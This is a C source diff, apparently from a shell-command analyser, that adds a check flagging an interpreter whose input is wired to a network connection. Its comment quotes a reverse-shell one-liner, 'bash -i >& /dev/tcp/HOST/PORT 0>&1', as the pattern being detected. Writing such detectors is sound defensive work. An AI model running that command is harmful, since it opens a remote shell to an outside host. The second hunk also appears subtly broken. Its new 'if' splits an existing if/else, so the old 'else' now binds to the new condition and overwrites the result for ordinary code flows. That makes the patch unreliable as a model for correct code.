@@ -73,6 +73,25 @@ static void say(cp_judge *j, const cp_layer_image *layer, const cp_rec_flow *flo
     cp_add_reason(j, &reason);
 }
 
+/* An interpreter whose descriptors are a connection (bash -i >& /dev/tcp/HOST/PORT 0>&1), or one that reads a descriptor while a
+ * connection is open somewhere in the request. */
+static bool by_descriptor(const cp_judge *j, uint32_t sink) {
+    const cp_call_effect *code = &j->calls->effects[sink];
+    if (code->call >= j->calls->call_count)
+        return false;
+    const cp_stdin *in = &j->calls->calls[code->call].in;
+    bool descriptor = in->is == CP_STDIN_IS_CALLS && in->from_count == 0;
+    if (code->effect.origin.kind != CP_ORIGIN_STDIN && !descriptor)
+        return false;
+    for (uint32_t i = 0; i < j->calls->effect_count && cp_step(j->budget); i++) {
+        const cp_call_effect *e = &j->calls->effects[i];
+        if (e->effect.kind == CP_EFFECT_NETWORK && e->effect.origin.kind == CP_ORIGIN_REDIRECT &&
+            (e->call == code->call || descriptor))
+            return true;
+    }
+    return false;
+}
+
 static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_flow *flow, uint8_t *reached,
                        uint8_t *by_words) {
     cp_arm_choice choice = cp_choose_arm(j, layer->image, flow->arm, 1, NULL);
@@ -104,6 +123,8 @@ static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_fl
         if (flow->to == CP_FLOW_CODE)
             joined = own_stdin ? range_reached(j, reached, sink->from_first, sink->from_count)
                                : sink->call < calls && by_words[sink->call] && !source[sink->call];
+        if (flow->from == CP_FLOW_NETWORK && flow->to == CP_FLOW_CODE)
+            joined |= by_descriptor(j, i);
         else
             joined = sink->call < calls && reached[sink->call];
         cp_verdict verdict = joined ? own : CP_REVIEW;
